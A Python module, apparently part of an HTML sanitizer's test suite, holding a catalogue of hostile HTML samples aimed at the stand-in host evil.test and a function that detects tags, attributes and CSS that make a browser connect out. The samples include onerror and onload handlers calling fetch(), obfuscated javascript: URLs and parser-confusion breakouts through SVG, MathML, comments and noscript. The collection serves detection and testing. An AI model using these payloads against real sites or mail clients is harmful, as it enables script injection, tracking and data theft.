"""HTML by which strangers make a browser connect, run something or send something; all of it names `evil.test`."""

# ruff: noqa: E501 - samples stay whole
import re
from typing import Final

from selectolax.lexbor import LexborHTMLParser

EVIL: Final = "https://evil.test/"
HOSTILE: Final = {
    "preconnect": f'<link rel="preconnect" href="{EVIL}">',
    "dns prefetch": "<LINK REL=dns-prefetch HREF=//evil.test>",
    "prefetch and preload": f'<link rel=prefetch href={EVIL}><link rel=preload as=image imagesrcset="{EVIL} 1x"><link rel=prerender href={EVIL}>',
    "manifest and icon": f"<link rel=manifest href={EVIL}><link rel=icon href={EVIL}><link rel=modulepreload href={EVIL}>",
    "stylesheet": f'<link rel=stylesheet href={EVIL}><style>@import "{EVIL}";</style>',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}"><meta http-equiv="x-dns-prefetch-control" content=on>',
    "base": f'<base href="{EVIL}"><a href="x">x</a><img src="y">',
    "scripts": f'<script src={EVIL}></script><script type=speculationrules>{{"prerender":[{{"urls":["{EVIL}"]}}]}}</script>',
    "frames": f'<iframe src={EVIL} srcdoc="<img src={EVIL}>"></iframe><frameset><frame src={EVIL}></frameset><portal src={EVIL}></portal>',
    "frameset": f"<html><frameset onload=x><frame src={EVIL}></frameset>",
    "plugins": f"<object data={EVIL}><param name=movie value={EVIL}>x</object><embed src={EVIL}><applet codebase={EVIL} code=x></applet>",
    "forms": f"<form action={EVIL} method=post><button formaction={EVIL}>x</button><input type=image src={EVIL}><input type=submit></form>",
    "handlers": f'<body onload="fetch(\'{EVIL}\')"><img src=x onerror=fetch("{EVIL}")><details ontoggle=x open><p onfocus=x autofocus tabindex=1>',
    "ping": f'<a href="https://ok.test/" ping="{EVIL}" attributionsrc="{EVIL}">x</a><img attributionsrc="{EVIL}">',
    "scheme": '<a href="javascript:fetch(\'//evil.test\')">x</a><a href="vbscript:x">x</a><area href="data:text/html,<img src=//evil.test>">',
    "scheme in disguise": (
        '<a href="java\nscript:alert(1)//evil.test">x</a><a href=" &#1;JaVa&Tab;script&colon;alert(1)//evil.test">x</a>'
        '<a href="&#x6a;&#97vascript:alert(1)//evil.test">x</a><a href="jav&#x0A;ascript:x//evil.test">x</a>'
    ),
    "data": '<img src="data:image/svg+xml,<svg><image href=//evil.test></svg>"><img src="data:text/html,//evil.test">',
    "pictures": f'<img src={EVIL} srcset="{EVIL} 2x" lowsrc={EVIL} dynsrc={EVIL} longdesc={EVIL}><picture><source srcset={EVIL}></picture>',
    "image": f'<image src="{EVIL}" href="{EVIL}">',
    "background": f'<body background={EVIL}><table background="{EVIL}"><tr><td background={EVIL}>x</td></tr></table>',
    "media": f"<video src={EVIL} poster={EVIL}><source src={EVIL}><track src={EVIL}>x</video><audio src={EVIL} autoplay>y</audio><bgsound src={EVIL}>",
    "svg": f'<svg><use href="{EVIL}#a"/><image xlink:href="{EVIL}"/><feImage href="{EVIL}"/><a xlink:href="{EVIL}"><text>x</text></a><style>@import "{EVIL}"</style></svg>',
    "svg that breaks out": f"<svg><style>&lt;/style>&lt;link rel=preconnect href={EVIL}></style><desc><link rel=preconnect href={EVIL}></desc><p><link rel=preconnect href={EVIL}></svg>",
    "svg set": f"<svg><a><set attributeName=href to={EVIL}/></a><script href={EVIL} /><foreignObject><iframe src={EVIL}></iframe></foreignObject></svg>",
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;link rel=preconnect href={EVIL}&gt;"></math>',
    "math link": f'<math href="{EVIL}" xlink:href="{EVIL}"><maction actiontype=statusline xlink:href="{EVIL}">x</maction></math>',
    "template": f"<template><link rel=preconnect href={EVIL}><img src={EVIL}></template><template shadowrootmode=open><img src={EVIL}></template>",
    "noscript": f'<noscript><link rel=preconnect href={EVIL}><img src={EVIL}><style>@import "{EVIL}"</style></noscript>',
    "noscript in the head": f'<head><noscript><p title="</noscript><link rel=preconnect href={EVIL}>"></noscript></head>x',
    "conditional comments": (
        f"<!--[if mso]><img src={EVIL}><![endif]--><!--[if !mso]><!--><img src={EVIL}><!--<![endif]--><![if !mso]><link rel=preconnect href={EVIL}><![endif]>"
    ),
    "comments that end early": f"<!--><link rel=preconnect href={EVIL}>--><!---><img src={EVIL}>--><!-- --!><img src={EVIL}>--><?x ><img src={EVIL}>",
    "text elements": (
        f"<textarea></textarea><img src={EVIL}></textarea><title><link rel=preconnect href={EVIL}></title><xmp><img src={EVIL}></xmp>"
        f"<noembed><img src={EVIL}></noembed><noframes><img src={EVIL}></noframes><listing>&lt;img src={EVIL}&gt;</listing><plaintext><img src={EVIL}>"
    ),
    "attribute that closes": f'<p title=\'"><link rel=preconnect href={EVIL}>\' class="x&quot;><img src={EVIL}>" aria-"x=\'"><img src={EVIL}>\'>x',
    "style that closes": f'<style>a{{content:"\\3c/style><link rel=preconnect href={EVIL}>"}} </style ><style media=\'"><link rel=preconnect href={EVIL}>\'>a{{}}</style>',
    "css urls": (
        f'<style>a{{background:url({EVIL})}} @font-face{{font-family:x;src:url("{EVIL}")}} b{{cursor:URL( "{EVIL}" ),auto}} '
        f'c{{background:image-set("{EVIL}" 1x)}} d{{background:\\75 rl({EVIL})}} @\\69mport "{EVIL}"; e{{list-style:u\\72l(//evil.test)}}</style>'
    ),
    "style attributes": f'<p style="background:url({EVIL})">a<b style="background:&#117;rl(&quot;{EVIL}&quot;)">b<i style="-moz-binding:url({EVIL}#x)">c',
    "upper case": f'<LINK REL="PRECONNECT" HREF="{EVIL}"><IMG SRC="{EVIL}" ONERROR=x><STYLE>@IMPORT URL({EVIL});</STYLE><FORM ACTION={EVIL}>',
    "broken nesting": f"<table><a href=x><table><link rel=preconnect href={EVIL}></a><form action={EVIL}><p><form action={EVIL}></table><b><i></b><img src={EVIL}></i>",
    "broken tags": f"<<link rel=preconnect href={EVIL}><img/src={EVIL}/onerror=x><img src={EVIL} <p><link rel=preconnect href={EVIL}",
    "null characters": f'<li\0nk rel=preconnect href={EVIL}><scr\0ipt src={EVIL}></script><style>@im\0port "{EVIL}";a{{b:u\0rl({EVIL})}}</style>',
}  # fmt: skip

# Browsers read no tag here, but would if the text were copied out of its quotes.
HARMLESS_UNTIL_WRITTEN: Final = frozenset({"attribute that closes", "style that closes"})
_CONNECTING: Final = frozenset(
    """
    link meta base script iframe frame frameset object embed applet portal param source track video audio image svg math template noscript
    form bgsound use feimage
    """.split()
)
_ADDRESSES: Final = frozenset(
    """
    src srcset imagesrcset action formaction ping manifest background poster data codebase code archive classid longdesc lowsrc dynsrc cite
    profile xlink:href srcdoc attributionsrc content
    """.split()
)
_HARMLESS_LINK: Final = re.compile(r"https?://|mailto:|tel:|sms:|#")
_STRINGS: Final = re.compile(r"""(?<!\()"(?:[^"\\\n]|\\.)*"|(?<!\()'(?:[^'\\\n]|\\.)*'""")
_ESCAPES: Final = re.compile(r"\\([0-9a-fA-F]{1,6})\s?")


def faults(document: str) -> list[str]:
    """What in a document would make a browser connect, run or send something, by a reading of its own."""
    found: list[str] = []
    root = LexborHTMLParser(document).root
    assert root is not None
    waiting = [root]
    while waiting:
        node = waiting.pop()
        waiting += node.iter(include_text=True)
        tag = node.tag or ""
        if tag == "-text":
            continue
        if tag in _CONNECTING or tag.startswith("-"):
            found.append(tag)
        if tag == "style":
            found += _style_faults(node.text(deep=True))
        for name, value in node.attributes.items():
            text = value or ""
            is_picture = tag == "img" and name == "src" and text.startswith("data:image/png;base64,")
            if name.startswith("on") or (name in _ADDRESSES and not is_picture):
                found.append(f"{tag} {name}")
            elif name == "href" and not (tag in {"a", "area"} and _HARMLESS_LINK.match(text)):
                found.append(f"{tag} {name}={text}")
            elif name == "style":
                found += _style_faults(text)
    return found


def _style_faults(css: str) -> list[str]:
    css = _STRINGS.sub('""', css)  # what stands in a string is text; `url(` before one stays
    plain = _ESCAPES.sub(lambda escape: chr(int(escape[1], 16)), css).lower()
    plain = re.sub(r'url\("data:image/png;base64,[a-z0-9+/=]*"\)', "", plain)
    return [word for word in ("url(", "@import", "@font-face", "image-set", "evil.test/)", "expression(") if word in plain]
